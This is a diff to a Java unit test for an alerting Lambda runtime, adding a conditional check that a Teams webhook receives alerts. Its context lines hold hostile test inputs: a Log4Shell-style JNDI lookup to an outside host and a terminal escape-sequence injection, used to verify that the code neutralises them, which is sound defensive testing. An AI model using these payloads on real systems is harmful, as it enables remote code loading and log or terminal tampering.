@@ -15,6 +15,7 @@ import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
 import com.github.tomakehurst.wiremock.verification.LoggedRequest;
 import io.firewatch.core.alert.Alert;
 import io.firewatch.core.alert.AlertJson;
+import io.firewatch.core.config.Settings;
 import io.firewatch.core.testing.Fixtures;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
@@ -141,6 +142,11 @@ class LambdaRuntimeTest {
         Map<String, String> hostileForm = SnsRequests.form(afterHostile.get(2).getBodyAsString());
         assertThat(hostileForm.get("Subject")).matches("[\\x20-\\x7e]{1,99}");
         assertThat(hostileForm.get("Message")).contains("\\u001B]0;pwned\\u0007").contains("${jndi:ldap://203.0.113.66/a}");
+
+        // Teams works from Lambda through core's sink once core offers one: each new alert reached the webhook.
+        if (!Settings.from(Map.of("FIREWATCH_TEAMS_WEBHOOK_URL", "https://teams.example/hook")).sinks().isEmpty()) {
+            assertThat(aws.findAll(postRequestedFor(urlEqualTo("/webhookb2/secret-signature")))).hasSize(3);
+        }
 
         // The Teams URL was fetched once, by reference, and never written to the log.
         assertThat(aws.findAll(postRequestedFor(urlEqualTo("/"))
